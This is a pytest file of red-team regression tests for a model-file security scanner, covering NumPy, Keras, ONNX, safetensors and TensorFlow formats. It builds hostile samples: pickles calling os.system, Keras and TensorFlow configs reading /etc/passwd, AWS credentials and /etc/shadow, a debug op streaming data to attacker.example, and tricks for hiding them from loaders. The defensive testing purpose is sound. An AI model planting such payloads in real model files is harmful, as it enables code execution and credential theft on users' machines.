"""Red-team regressions for the non-pickle model formats: each test names the technique it covers.

Every sample is one the real loader acts on (verified here with numpy and onnx where they are
installed; Keras is not installed, its behaviour is taken from its documentation and advisories).
Payloads only ever create a marker file (tests/fixtures marker_shell), and nothing here runs them.
"""

from __future__ import annotations

import io
import pickle
import struct
import warnings
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import aivet
from aivet.evidence import Evidence, Severity
from tests.fixtures import marker_path, marker_shell
from tests.fixtures.keras_files import k3_layer, k3_model, write_keras
from tests.fixtures.pickles import Ops


def _rules(evidence: Evidence) -> dict[str, Severity]:
    out: dict[str, Severity] = {}
    for f in evidence.findings:
        out[f.rule_id] = max(out.get(f.rule_id, f.severity), f.severity)
    return out


# -- NumPy .npy: object dtypes aivet's dtype reader did not recognise -------------------------------

def _npy(header: str, body: bytes, version: int = 1) -> bytes:
    text = header.encode("latin-1")
    prefix = 10 if version == 1 else 12
    text += b" " * (-(prefix + len(text) + 1) % 64) + b"\n"
    length = struct.pack("<H", len(text)) if version == 1 else struct.pack("<I", len(text))
    return b"\x93NUMPY" + bytes([version, 0]) + length + text + body


def _numpy_unpickles(header: str) -> bool:
    """True when np.load(allow_pickle=True) reads the data of a file with ``header`` as a pickle."""
    harmless = pickle.dumps([1, 2], protocol=3)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        loaded = np.load(io.BytesIO(_npy(header, harmless)), allow_pickle=True)
    return loaded == [1, 2]  # type: ignore[no-any-return]


def _check_npy_payload(tmp_path: Path, marker_dir: Path, descr: str, shape: str = "(1,)") -> None:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}}}"
    assert _numpy_unpickles(header)
    evil = Ops(2).call1("os", "system", marker_shell(marker_dir, "npy")).stop()
    path = tmp_path / "evil.npy"
    path.write_bytes(_npy(header, evil))
    found = _rules(aivet.scan(path))
    assert found.get("PICKLE-DANGEROUS-GLOBAL") is Severity.CRITICAL, found
    assert "NUMPY-OBJECT-ARRAY" in found
    assert not marker_path(marker_dir, "npy").exists()


def test_npy_comma_separated_dtype_string_hides_object_field(tmp_path: Path, marker_dir: Path) -> None:
    """numpy dtype strings may list fields: 'i4,O' is a record with an object field (np.dtype docs)."""
    _check_npy_payload(tmp_path, marker_dir, "'i4,O'")


def test_npy_subarray_prefix_in_dtype_string(tmp_path: Path, marker_dir: Path) -> None:
    """'(1,)O' and '2O' are sub-array dtypes of objects written as one string."""
    _check_npy_payload(tmp_path, marker_dir, "'(1,)O'")
    _check_npy_payload(tmp_path, marker_dir, "'2O'")


def test_npy_stringdtype_T_is_pickled(tmp_path: Path, marker_dir: Path) -> None:
    """numpy 2 StringDType ('T') has hasobject set, so np.load unpickles its data too."""
    _check_npy_payload(tmp_path, marker_dir, "'T'")


def test_npy_descr_as_dict_or_set_is_iterated_as_fields(tmp_path: Path, marker_dir: Path) -> None:
    """descr_to_dtype iterates any non-str/non-tuple descr: {'xO': 0} and {'xO'} are a field x of objects."""
    _check_npy_payload(tmp_path, marker_dir, "{'xO': 0}")
    _check_npy_payload(tmp_path, marker_dir, "{'xO'}")
    _check_npy_payload(tmp_path, marker_dir, "['xO']")


def test_npy_python2_long_suffix_header(tmp_path: Path, marker_dir: Path) -> None:
    """Version 1/2 headers are re-parsed without Python 2 'L' suffixes (numpy _filter_header)."""
    _check_npy_payload(tmp_path, marker_dir, "'|O'", "(1L,)")


def test_npy_object_array_with_negative_or_bool_shape(tmp_path: Path, marker_dir: Path) -> None:
    """numpy only checks the shape holds ints and never uses it for object arrays: (-1,) still unpickles."""
    _check_npy_payload(tmp_path, marker_dir, "'|O'", "(-1,)")
    _check_npy_payload(tmp_path, marker_dir, "'|O'", "(True,)")


def test_npy_nested_subarray_string_in_structured_field(tmp_path: Path, marker_dir: Path) -> None:
    """A structured field whose type is itself the string '(2,)O'."""
    _check_npy_payload(tmp_path, marker_dir, "[('x', '(2,)O')]")


def test_npy_oversized_header_still_emulates_the_pickle(tmp_path: Path, marker_dir: Path) -> None:
    """np.load(allow_pickle=True) lifts the 10,000-byte header cap: padding past aivet's literal limit
    must not hide the pickle behind a LIMIT-EXCEEDED finding."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,)}" + " " * 70_000
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        assert np.load(io.BytesIO(_npy(header, pickle.dumps([1, 2], protocol=3), 2)), allow_pickle=True) == [1, 2]
    evil = Ops(2).call1("os", "system", marker_shell(marker_dir, "big")).stop()
    path = tmp_path / "big.npy"
    path.write_bytes(_npy(header, evil, 2))
    found = _rules(aivet.scan(path))
    assert found.get("PICKLE-DANGEROUS-GLOBAL") is Severity.CRITICAL and "SCAN-LIMIT-EXCEEDED" in found


def test_npy_unknown_dtype_without_pickle_data_stays_a_parse_error(tmp_path: Path) -> None:
    """The fail-closed fallback emulates only data that starts like a pickle."""
    path = tmp_path / "odd.npy"
    path.write_bytes(_npy("{'descr': 'zz', 'fortran_order': False, 'shape': (1,)}", b"\0" * 8))
    assert set(_rules(aivet.scan(path))) == {"SCAN-PARSE-ERROR"}


def test_npy_dtype_sizes_match_numpy() -> None:
    """The size check (hidden trailing data) must agree with numpy for every dtype string form."""
    from aivet.analyzers.numpy import itemsize

    for code in ["<f4", "i4,f8", "(2,3)f4", "3i2,(2,)u1", "<U5", "S7", "M8[ns]", "d", "g", "int32", "bool", "?"]:
        dtype = np.dtype(code)
        assert itemsize(code) == (dtype.itemsize, False), code


# -- Keras: file paths in layer configs (CVE-2025-12058 family) -------------------------------------

@pytest.mark.parametrize(("class_name", "key", "value"), [
    ("WordPieceTokenizer", "vocabulary", "/etc/passwd"),
    ("BytePairTokenizer", "merges", "https://attacker.example/merges.txt"),
    ("SentencePieceTokenizer", "proto", "/home/user/.aws/credentials"),
    ("BertTokenizer", "vocabulary", "../../secrets.txt"),
])
def test_keras_hub_tokenizer_reads_a_file_path(tmp_path: Path, class_name: str, key: str, value: str) -> None:
    """KerasHub tokenizers read a string vocabulary/merges/proto as a path when rebuilt: the lookup-layer
    vocabulary file read of CVE-2025-12058, through a tokenizer layer instead of StringLookup."""
    layer = k3_layer(class_name, {"name": "tok", key: value}, module="keras_hub.tokenizers")
    path = write_keras(tmp_path / "m.keras", k3_model([layer]))
    evidence = aivet.scan(path)
    hits = [f for f in evidence.findings if f.rule_id == "KERAS-FILE-REFERENCE"]
    assert hits and hits[0].severity is Severity.HIGH and hits[0].details["key"] == key


def test_keras_tokenizer_with_inline_vocabulary_is_clean(tmp_path: Path) -> None:
    """A vocabulary list (or null, saved as an asset) is not a file reference."""
    layer = k3_layer("WordPieceTokenizer", {"name": "tok", "vocabulary": ["a", "b"], "merges": None},
                     module="keras_hub.tokenizers")
    evidence = aivet.scan(write_keras(tmp_path / "m.keras", k3_model([layer])))
    assert "KERAS-FILE-REFERENCE" not in _rules(evidence)



def test_keras_zip_with_two_config_json_entries(tmp_path: Path) -> None:
    """Zip readers differ on duplicate names (Python's zipfile, hence Keras, opens the last; others the
    first): a hostile config.json hidden before a clean one is checked as well."""
    import json
    import zipfile

    from tests.fixtures.keras_files import k3_dense

    evil = k3_model([k3_dense(activation={"module": "os", "class_name": "function", "config": "system",
                                          "registered_name": "function"})])
    path = tmp_path / "dup.keras"
    with zipfile.ZipFile(path, "w") as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        zf.writestr("metadata.json", "{}")
        zf.writestr("config.json", json.dumps(evil))
        zf.writestr("config.json", json.dumps(k3_model([k3_dense()])))
    found = _rules(aivet.scan(path))
    assert found.get("KERAS-FUNCTION-REFERENCE") is Severity.CRITICAL and "ARCHIVE-DUPLICATE-MEMBER" in found


# -- ONNX: a non-standard op in the standard domain ---------------------------------------------------

def test_onnx_unknown_op_in_default_domain(tmp_path: Path) -> None:
    """Custom-op libraries can be registered under the default domain name; an op_type the ONNX standard
    does not define, in domain '' or 'ai.onnx', needs native code just like a custom domain."""
    pytest.importorskip("onnx")
    from onnx import helper

    from tests.fixtures.onnx_files import make_model, save

    for domain in ("", "ai.onnx"):
        node = helper.make_node("ExecShell", ["X"], ["Y"], name="evil", domain=domain)
        path = save(make_model([node]), tmp_path / f"m{domain or 'default'}.onnx")
        hits = [f for f in aivet.scan(path).findings if f.rule_id == "ONNX-CUSTOM-OP"]
        assert hits and hits[0].severity is Severity.MEDIUM and "does not define" in hits[0].message


def test_onnx_unknown_op_hidden_in_a_loop_body_of_a_function(tmp_path: Path) -> None:
    """Nested subgraphs (a Loop body inside a model-local function) do not hide an unknown op."""
    pytest.importorskip("onnx")
    from onnx import TensorProto, helper

    from tests.fixtures.onnx_files import make_model, save

    body = helper.make_graph([helper.make_node("Sneaky", ["x"], ["y"], name="inner")], "body",
                             [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                             [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    loop = helper.make_node("Loop", ["M", "C"], ["out"], body=body, name="loop")
    fn = helper.make_function("local", "Wrapper", ["M", "C"], ["out"], [loop], [helper.make_opsetid("", 17)])
    call = helper.make_node("Wrapper", ["X", "X"], ["Y"], domain="local", name="call")
    path = save(make_model([call], functions=[fn], opsets={"local": 1}), tmp_path / "nested.onnx")
    ops = {f.details.get("op") for f in aivet.scan(path).findings if f.rule_id == "ONNX-CUSTOM-OP"}
    assert ops == {"Sneaky"}


def test_onnx_standard_op_list_covers_the_installed_onnx() -> None:
    """The allowlist must hold every operator the installed onnx defines, or real models become findings."""
    defs = pytest.importorskip("onnx.defs")
    from aivet.analyzers.onnx import _ONNX_OPS

    names = {schema.name for schema in defs.get_all_schemas_with_history()
             if schema.domain in ("", "ai.onnx.ml", "ai.onnx.preview.training", "ai.onnx.preview")}
    assert names <= _ONNX_OPS, sorted(names - _ONNX_OPS)


def test_onnx_standard_ops_are_clean(tmp_path: Path) -> None:
    """Standard ops, including ai.onnx.ml ones, stay clean."""
    pytest.importorskip("onnx")
    from onnx import helper

    from tests.fixtures.onnx_files import make_model, save

    nodes = [helper.make_node("MatMul", ["X", "W"], ["T"], name="mm"),
             helper.make_node("Normalizer", ["T"], ["Y"], domain="ai.onnx.ml", norm="MAX", name="norm")]
    path = save(make_model(nodes, opsets={"ai.onnx.ml": 3}), tmp_path / "clean.onnx")
    assert "ONNX-CUSTOM-OP" not in _rules(aivet.scan(path))


# -- boundedness of the dtype reader ------------------------------------------------------------------

_DESCR_TEXT = st.text(alphabet="<>|=!,()0123456789 OTifubcSUVaMmd?[]ns_objectx²", max_size=40)
_DESCR = st.recursive(_DESCR_TEXT | st.integers(-3, 5),
                      lambda inner: st.lists(inner, max_size=4) | st.tuples(inner, inner)
                      | st.tuples(inner, inner, inner) | st.frozensets(_DESCR_TEXT, max_size=3),
                      max_leaves=12)


@settings(max_examples=200, deadline=None)
@given(descr=_DESCR)
def test_dtype_reader_only_raises_format_errors(descr: object) -> None:
    """Any descr a header can hold is read or refused with FormatError, never another exception."""
    from aivet.analyzers.numpy import itemsize
    from aivet.formats import FormatError

    try:
        itemsize(descr)
    except FormatError:
        pass


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(descr=_DESCR_TEXT, shape=st.sampled_from(["(1,)", "(-1,)", "(1L,)", "()", "(True, 2)"]),
       body=st.binary(max_size=16))
def test_hostile_npy_headers_scan_without_errors(tmp_path: Path, descr: str, shape: str, body: bytes) -> None:
    """Whatever the header, a scan ends with findings, never an internal error."""
    path = tmp_path / "h.npy"
    path.write_bytes(_npy(f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape}}}", body))
    evidence = aivet.scan(path)
    assert not [f for f in evidence.findings if f.details.get("internal")]


def test_keras_torch_module_wrapper_pickle_is_analysed(tmp_path: Path, marker_dir: Path) -> None:
    """keras.layers.TorchModuleWrapper.from_config base64-decodes config['module'] and calls
    torch.load(weights_only=False) on it (without a safe_mode check before the fix): the pickle inside
    must be emulated, not reported as an odd module name."""
    import base64
    import zipfile

    from tests.fixtures.torch_files import payload_pickle

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:  # the torch.save layout: archive/data.pkl + version
        zf.writestr("archive/data.pkl", payload_pickle(marker_dir, "keras-torch"))
        zf.writestr("archive/version", "3\n")
        zf.writestr("archive/byteorder", "little")
    layer = k3_layer("TorchModuleWrapper", {"name": "wrap", "module": base64.b64encode(buf.getvalue()).decode()})
    path = write_keras(tmp_path / "torch.keras", k3_model([layer]))
    evidence = aivet.scan(path)
    found = _rules(evidence)
    assert "KERAS-TORCH-MODULE" in found and "KERAS-UNSAFE-MODULE" not in found
    assert max(f.severity for f in evidence.findings if f.rule_id.startswith("PICKLE-")) is Severity.CRITICAL
    assert not marker_path(marker_dir, "keras-torch").exists()


def test_keras_gadgets_that_load_another_model_or_lift_safe_mode(tmp_path: Path) -> None:
    """A Lambda calling the legacy HDF5 loader (which ignored safe_mode, CVE-2025-9905) or passing
    safe_mode=False by keyword to a Keras deserialiser is a gadget chain."""
    for function, arguments in (("load_model_from_hdf5", {"filepath": "evil.h5"}),
                                ("deserialize_keras_object", {"config": "{}", "safe_mode": False})):
        layer = k3_layer("Lambda", {"name": "l", "arguments": arguments, "function": {
            "module": "keras.src.legacy.saving.legacy_h5_format", "class_name": "function", "config": function,
            "registered_name": "function"}})
        found = _rules(aivet.scan(write_keras(tmp_path / f"{function}.keras", k3_model([layer]))))
        assert found.get("KERAS-GADGET") is Severity.HIGH, (function, found)


# -- safetensors: what the reference loader accepts and a '{'-matching reader does not --------------

def test_safetensors_header_with_leading_whitespace(tmp_path: Path) -> None:
    """The specification says the header starts with '{', but safetensors (serde_json) skips JSON
    whitespace first and loads the file: it must be recognised and analysed, and the deviation reported."""
    st_numpy = pytest.importorskip("safetensors.numpy")
    from tests.fixtures.safetensors_files import st_bytes

    header = ' \n{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    pickle_tail = Ops(2).call1("os", "system", "true").stop()
    clean = st_bytes(header, b"\0" * 4)
    assert list(st_numpy.load(clean)) == ["a"]  # the reference loader accepts it
    path = tmp_path / "ws.safetensors"
    path.write_bytes(st_bytes(header, b"\0" * 4 + pickle_tail))
    evidence = aivet.scan(path)
    assert "safetensors" in {a.format for a in evidence.artifacts}
    found = _rules(evidence)
    assert found.get("SAFETENSORS-NONSTANDARD-HEADER") is Severity.MEDIUM
    assert found.get("SAFETENSORS-TRAILING-DATA") is Severity.HIGH


# -- TensorFlow: text-format SavedModel ---------------------------------------------------------------

_PBTXT = """# TensorFlow loads this when saved_model.pb is absent (loader_impl.parse_saved_model)
saved_model_schema_version: 1
meta_graphs {
  meta_info_def { tags: "serve" }
  graph_def {
    node { name: "x" op: "Placeholder" attr { key: "dtype" value { type: DT_STRING } } }
    node { name: "y" op: "Identity" input: "x" }
    library {
      function {
        signature { name: "__inference_call_42" }
        node_def { name: "leak" op: "Read" 'File' input: "path" }
        node_def {
          name: "exfil" op: "DebugIdentity"
          attr { key: "debug_urls" value { list { s: ["grpc://attacker.example:6064"] } } }
        }
        node_def { name: "py" op: "\\120yFunc" }
      }
    }
  }
  asset_file_def { filename: "../../../etc/shadow" }
}
"""


def test_savedmodel_in_protobuf_text_format(tmp_path: Path) -> None:
    """tf.saved_model.load reads saved_model.pbtxt when saved_model.pb is missing: ops hidden in the
    text form (adjacent literals joined, octal escapes, function library) must be found as in binary."""
    model = tmp_path / "sm"
    model.mkdir()
    (model / "saved_model.pbtxt").write_text(_PBTXT)
    evidence = aivet.scan(model)
    found = _rules(evidence)
    assert found.get("TF-FILE-OP") is Severity.HIGH
    assert found.get("TF-NETWORK-OP") is Severity.HIGH
    assert found.get("TF-PYTHON-OP") is Severity.CRITICAL
    assert found.get("TF-ASSET-PATH") is Severity.HIGH
    ops = {f.details.get("op") for f in evidence.findings}
    assert {"ReadFile", "PyFunc", "DebugIdentity"} <= ops


def test_savedmodel_text_format_clean_graph(tmp_path: Path) -> None:
    """A benign text graph stays clean."""
    path = tmp_path / "graph.pbtxt"
    path.write_text('node { name: "x" op: "Placeholder" }\nnode { name: "y" op: "Identity" input: "x" }\n'
                    'versions { producer: 1 }\n')
    evidence = aivet.scan(path)
    assert not evidence.findings and evidence.artifacts[0].format == "tf-text-proto"


@settings(max_examples=200, deadline=None)
@given(text=st.text(alphabet='{}<>[]:,;"\\\'#\n abcop0x7_-.', max_size=200))
def test_text_proto_reader_only_raises_format_errors(text: str) -> None:
    """Random text is parsed or refused with FormatError/LimitExceeded, never another exception."""
    from aivet.formats import FormatError, LimitExceeded
    from aivet.formats.protobuf_text import parse_text_proto

    try:
        parse_text_proto(text)
    except (FormatError, LimitExceeded):
        pass


# -- Keras 3 model directories (config.json outside a .keras zip) ------------------------------------

def _keras_dir(root: Path) -> Path:
    import json

    from tests.fixtures.keras_files import k3_dense, k3_weights

    model = root / "keras-model"
    model.mkdir()
    evil = k3_model([k3_dense(activation={"module": "os", "class_name": "function", "config": "system",
                                          "registered_name": "function"})])
    (model / "config.json").write_text(json.dumps(evil))
    (model / "metadata.json").write_text(json.dumps({"keras_version": "3.6.0"}))
    (model / "model.weights.h5").write_bytes(k3_weights())
    return model


def test_keras_directory_config_is_recognised(tmp_path: Path) -> None:
    """keras.saving.load_model loads a directory holding config.json (saving_lib._load_model_from_dir),
    which is how Keras models sit in Hugging Face repositories (hf://): its config is a Keras config."""
    import json

    from aivet.analyzers.context import Context
    from aivet.analyzers.keras import check_keras_json_config
    from aivet.analyzers.source import Source

    config = json.loads((_keras_dir(tmp_path) / "config.json").read_text())
    ctx = Context(subject="s")
    assert check_keras_json_config(config, Source.from_bytes(b"", "config.json"), ctx)
    assert {f.rule_id for f in ctx.findings} == {"KERAS-FUNCTION-REFERENCE"}
    ctx = Context(subject="s")
    hf = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 8}
    assert not check_keras_json_config(hf, Source.from_bytes(b"", "config.json"), ctx) and not ctx.findings


def test_keras_directory_scan_end_to_end(tmp_path: Path) -> None:
    """The same, through aivet.scan: the JSON analyzer must hand Keras configs to the Keras check."""
    found = _rules(aivet.scan(_keras_dir(tmp_path)))
    assert found.get("KERAS-FUNCTION-REFERENCE") is Severity.CRITICAL
